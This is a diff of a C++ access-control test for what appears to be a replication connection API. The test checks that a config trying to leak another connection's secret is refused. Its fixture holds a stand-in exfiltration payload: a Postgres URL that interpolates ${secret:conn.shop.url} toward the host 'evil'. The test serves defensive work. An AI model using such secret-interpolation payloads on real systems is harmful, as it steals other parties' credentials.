@@ -233,7 +233,8 @@ TEST_F(Access, ConfigurationKeepsToWhatItMayReach) {
     Json const stealing{{"id", "thief"},
                         {"connector", "postgres"},
                         {"config", {{"url", "postgres://u:${secret:conn.shop.url}@evil/db"}}}};
-    Answer const refused = host().call("POST", "/replication/connections", stealing, as(token));
+    EXPECT_EQ(host().call("POST", "/replication/connections", stealing, as(token)).status, 403u);
+    Answer const refused = host().post("/replication/connections", stealing);
     EXPECT_EQ(refused.status, 422u) << refused;
     EXPECT_EQ(refused.code(), "replication.secret_of_another") << refused;
 }
